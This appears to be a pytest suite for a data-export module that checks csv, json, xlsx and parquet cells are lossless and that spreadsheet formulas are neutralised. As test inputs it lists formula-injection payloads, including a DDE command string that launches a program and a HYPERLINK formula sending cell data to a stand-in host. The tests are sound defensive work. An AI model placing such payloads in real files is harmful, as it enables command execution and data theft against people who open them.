"""Cells and files: lossless, readable by other programs, and never a formula."""

from __future__ import annotations

import csv
import io
import json
import sys
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow.parquet as pq  # type: ignore[import-untyped]  # it has no types
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from tasks.exports.cells import CellTooLong, Json, csv_cell, json_cell, xlsx_cell
from tasks.exports.formats import FORMATS, XlsxWriter
from tasks.exports.formulas import neutral, original, runs

FORMULAS = [
    "=1+1",
    "+a",
    "-a",
    "-1+1",
    "+49 30 1",
    "-1-cmd",
    "@SUM(A1)",
    "\t=1",
    "\rx",
    "\nx",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    '"=1',
    "\x0b=1",
    "\uff1d1",  # full-width =
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\u22121",  # minus sign
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1)',
]
INNER = ["x,=1", "x;=1", "x\t+a", "x|@1", "x\n=1", "x\r\n-1-a", "x; =1", 'x,"=1', "x;\uff1d1", '";=1;"']
HARMLESS = [
    "",
    "a=b",
    "1-2",
    "me@example.org",
    "x, y",
    "https://example.org/?a=1",
    "12:30",
    "-1",
    "+1",
    "-.5e-7",
    "-Infinity",
    "{1,-2}",
    "[-1,5)",
    "(1,-2)",
    '{"a": [-1, -2.5]}',
    "a - b",
    "ä\u2028b",
]
EAST = timezone(timedelta(hours=2))
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


def write(form: str, columns: list[str], rows: list[list[Any]], path: Path) -> Path:
    """A file of this format with these values."""
    with path.open("w+b") as file:
        writer = FORMATS[form].writer(file, columns, path.parent)
        writer.write([[FORMATS[form].cell(value) for value in row] for row in rows])
        writer.finish()
        writer.close()
    return path


def read_xlsx(path: Path, sheet: int = 0) -> list[list[Any]]:
    """The cells of a sheet, line by line."""
    book = openpyxl.load_workbook(io.BytesIO(path.read_bytes()))
    rows = [[cell.value for cell in row] for row in book.worksheets[sheet].iter_rows()]
    book.close()
    return rows


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    """A text that a spreadsheet would run gets an apostrophe, also in full-width forms."""
    assert neutral(text).startswith("'")
    assert neutral(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", INNER)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_reader_with_another_separator_finds_a_formula(text: str, separator: str) -> None:
    """A formula after a separator, a quote or a line break is neutralised as well."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow(["a", csv_cell(text), "b"])
    for line in buffer.getvalue().splitlines():
        for cell in csv.reader([line], delimiter=separator):
            assert not any(field.strip(' "').startswith(tuple(SIGNS)) for field in cell)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text: str) -> None:
    """A sign within a word or between numbers is not neutralised."""
    assert csv_cell(text) == text


HOSTILE = st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from("=+-@;,|\t\r\n\" '0.e)]}"))


@given(HOSTILE)
def test_every_text_can_be_had_back(text: str) -> None:
    """Every neutralised text can be restored, also one that began with apostrophes."""
    assert original(neutral(text)) == text
    assert neutral(text).replace("'", "") == text.replace("'", "")


@given(HOSTILE)
def test_a_text_of_a_csv_file_is_not_neutralised_twice(text: str) -> None:
    """A csv export of a csv export does not neutralise texts twice."""
    cell = csv_cell(text)
    assert cell is not None
    assert csv_cell(original(cell)) == cell


@given(st.decimals(allow_nan=False, allow_infinity=False) | st.floats(allow_nan=False) | st.integers())
def test_a_text_that_is_a_number_stays_as_it_is(number: Any) -> None:
    """A text that is a number is not neutralised."""
    text = str(number).replace("inf", "infinity")
    assert neutral(text) == text
    assert neutral(f"[{text}, {text}]") == f"[{text}, {text}]"


@given(HOSTILE)
def test_an_xlsx_cell_is_the_text_itself(text: str) -> None:
    """An xlsx cell holds the text itself."""
    assert xlsx_cell(text) == text


def test_neutralising_is_linear_in_the_length_of_the_text() -> None:
    """Neutralising takes time linear in the length of the text."""
    for filler in (" ", "\n", ",", ', "', "\t ", "'", ",'", ",-1", ",-1 "):
        text = filler * (1_000_000 // len(filler))
        assert original(neutral(text)) == text


def test_negative_numbers_stay_numbers() -> None:
    """A negative number is not neutralised."""
    values = [-5, -0.5, Decimal("-12.50")]
    assert [csv_cell(value) for value in values] == ["-5", "-0.5", "-12.50"]
    assert [json_cell(value) for value in values] == [-5, -0.5, -12.5]
    assert [xlsx_cell(value) for value in values] == [-5, -0.5, -12.5]


@pytest.mark.parametrize(
    ("value", "in_csv", "in_json"),
    [
        (None, None, None),
        (True, "true", True),
        (False, "false", False),
        (2**53, "9007199254740992", 2**53),
        (2**63 - 1, "9223372036854775807", "9223372036854775807"),
        (-(2**63), "-9223372036854775808", "-9223372036854775808"),
        (0.1, "0.1", 0.1),
        (float("nan"), "NaN", "NaN"),
        (float("-inf"), "-Infinity", "-Infinity"),
        (Decimal("12.50"), "12.50", 12.5),
        (Decimal("12.00"), "12.00", 12),
        (Decimal("1E+3"), "1000", 1000),
        (Decimal("0.1234567890123456789"), "0.1234567890123456789", "0.1234567890123456789"),
        (Decimal("NaN"), "NaN", "NaN"),
        (date(2026, 1, 2), "2026-01-02", "2026-01-02"),
        (datetime(2026, 1, 2, 3, 4, 5, 678999, UTC), "2026-01-02T03:04:05.678999Z", "2026-01-02T03:04:05.678999Z"),
        (datetime(2026, 1, 2, 3, tzinfo=EAST), "2026-01-02T01:00:00.000Z", "2026-01-02T01:00:00.000Z"),
        (datetime(2026, 1, 2), "2026-01-02T00:00:00.000", "2026-01-02T00:00:00.000"),  # noqa: DTZ001 - a column without zone
        (b"\xff\xfe", "//4=", "//4="),
        (Json('{"n": 1152921504606846976, "l": [null, 1.50, 0.12345678901234567890, -1e-7]}'),
         '{"n": 1152921504606846976, "l": [null, 1.50, 0.12345678901234567890, -1e-7]}',
         {"n": "1152921504606846976", "l": [None, 1.5, "0.12345678901234567890", -1e-7]}),
        (Json("1e400"), "1e400", "1e400"),
        (Json("1e-99999999999999999999"), "1e-99999999999999999999", "1e-99999999999999999999"),
        (Json('{"a": 1, "a": 2}'), '{"a": 1, "a": 2}', '{"a": 1, "a": 2}'),
        (Json(r'"\ud800"'), r'"\ud800"', r'"\ud800"'),
        (Json("[" * 5000 + "]" * 5000), "[" * 5000 + "]" * 5000, "[" * 5000 + "]" * 5000),
    ],
)  # fmt: skip
def test_every_kind_of_value_has_one_form_in_csv_and_json(value: Any, in_csv: str | None, in_json: Any) -> None:
    """Every kind of value has its documented form in csv and json."""
    assert csv_cell(value) == in_csv
    assert json_cell(value) == in_json
    json.dumps(json_cell(value), allow_nan=False)


def test_csv_is_rfc_4180(tmp_path: Path) -> None:
    """A csv file follows RFC 4180 and tells null from an empty text."""
    path = write("csv", ["id", "text"], [[1, 'a "b", c'], [2, "line\r\nline"], [None, "ä"], [3, ""]], tmp_path / "x")
    expected = 'id,text\r\n1,"a ""b"", c"\r\n2,"line\r\nline"\r\n,ä\r\n3,""\r\n'
    assert path.read_bytes() == expected.encode()


def test_json_is_an_array_with_one_object_a_line(tmp_path: Path) -> None:
    """A json file is an array with one object a line."""
    path = write("json", ["id", "text"], [[1, "=1+1 \u2028"], [2**60, None]], tmp_path / "x")
    assert json.loads(path.read_text()) == [{"id": 1, "text": "=1+1 \u2028"}, {"id": str(2**60), "text": None}]
    assert len(path.read_text().split("\n")) == 5


def test_json_without_rows_is_an_empty_array(tmp_path: Path) -> None:
    """A json file without rows is an empty array."""
    assert json.loads(write("json", ["id"], [], tmp_path / "x").read_bytes()) == []


def test_xlsx_keeps_numbers_times_and_texts(tmp_path: Path) -> None:
    """Openpyxl reads numbers, UTC times and long numbers of an xlsx file as documented."""
    moment = datetime(2026, 1, 2, 3, 4, 5, 678000, timezone(timedelta(hours=1)))
    row = [
        7,
        -1.5,
        Decimal("-12.5"),
        True,
        "ä",
        moment,
        date(2026, 1, 2),
        None,
        2**60,
        date(1900, 2, 28),
        Decimal("Infinity"),
        Decimal("0.1234567890123456"),
        Decimal("-123456789012.345"),
        0.1 + 0.2,
        5e-324,
        datetime(9999, 12, 31, 23, 59, 59, 999999),  # noqa: DTZ001
    ]
    path = write("xlsx", [str(number) for number in range(len(row))], [row], tmp_path / "x")
    assert read_xlsx(path)[1] == [
        7, -1.5, -12.5, True, "ä", datetime(2026, 1, 2, 2, 4, 5, 678000), datetime(2026, 1, 2), None,  # noqa: DTZ001
        "1152921504606846976", "1900-02-28", "Infinity", "0.1234567890123456", -123456789012.345, 0.1 + 0.2, "5e-324",
        datetime(9999, 12, 31, 23, 59, 59, 999000),  # noqa: DTZ001
    ]  # fmt: skip


@pytest.mark.parametrize(
    "text", [*FORMULAS, "{=1+1}", "<r><t>x</t></r>", "<r>&broken</r>", "http://x.example", "mailto:x"]
)
def test_xlsx_has_no_formula_link_or_markup(text: str, tmp_path: Path) -> None:
    """An xlsx file has no formula, link or markup, whatever its texts look like."""
    path = write("xlsx", ["=1+1"], [[text], [1]], tmp_path / "x")
    book = openpyxl.load_workbook(io.BytesIO(path.read_bytes()))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert all(cell.data_type != "f" and cell.hyperlink is None for cell in cells)
    assert unescape(str(cells[1].value)) == text
    assert cells[1].quotePrefix == runs(text)
    assert cells[2].value == 1
    book.close()


@pytest.mark.parametrize("text", ["a\x08b", "_x0041_", "a\r\nb", " two  spaces ", "<b>&amp;", "\U0001f600"])
def test_xlsx_takes_any_text(text: str, tmp_path: Path) -> None:
    """Control characters and markup come back from an xlsx file as they went in."""
    path = write("xlsx", ["text"], [[text]], tmp_path / "x")
    assert unescape(read_xlsx(path)[1][0]) == text


def test_xlsx_has_no_character_that_xml_forbids(tmp_path: Path) -> None:
    """An xlsx file has no character that XML forbids."""
    path = write("xlsx", ["text"], [["a\ufffeb\uffffc"]], tmp_path / "x")
    assert "\uffff" not in read_xlsx(path)[1][0]
    assert unescape(read_xlsx(path)[1][0]) == "a\ufffeb\uffffc"


def test_a_text_that_no_cell_can_hold_is_refused(tmp_path: Path) -> None:
    """A text that no xlsx cell can hold is refused."""
    longest = "=" * 32_767
    assert read_xlsx(write("xlsx", ["text"], [[longest]], tmp_path / "x"))[1] == [longest]
    with pytest.raises(CellTooLong, match="csv or json"):
        xlsx_cell("x" * 32_768)
    with pytest.raises(CellTooLong):
        xlsx_cell("\U0001f600" * 20_000)  # two UTF-16 units each


def test_a_full_sheet_is_followed_by_another_one(tmp_path: Path) -> None:
    """A full xlsx sheet is followed by another one with the column names."""
    path = tmp_path / "x"
    with path.open("w+b") as file:
        writer = XlsxWriter(file, ["n"], tmp_path, sheet_rows=3)
        writer.write([[number] for number in range(5)])
        writer.finish()
        writer.close()
    assert [read_xlsx(path, sheet) for sheet in range(3)] == [[["n"], [0], [1]], [["n"], [2], [3]], [["n"], [4]]]


@pytest.mark.parametrize("form", FORMATS)
def test_column_names_are_neutralised_where_cells_are(form: str, tmp_path: Path) -> None:
    """Column names are neutralised as cells are."""
    path = write(form, ["=1"], [[1]], tmp_path / "x")
    if form == "csv":
        assert path.read_text().splitlines()[0] == "'=1"
    elif form == "xlsx":
        assert read_xlsx(path)[0] == ["=1"]
    elif form == "parquet":
        assert pq.read_table(path).to_pylist() == [{"=1": "1"}]
    else:
        assert json.loads(path.read_text()) == [{"=1": 1}]


def test_the_size_limit_of_integers_does_not_matter() -> None:
    """Numbers with more digits than Python converts by default are exported."""
    long = Decimal("1" * (sys.get_int_max_str_digits() + 1))
    assert csv_cell(long) == str(long)
    assert json_cell(long) == str(long)
    assert xlsx_cell(long) == str(long)
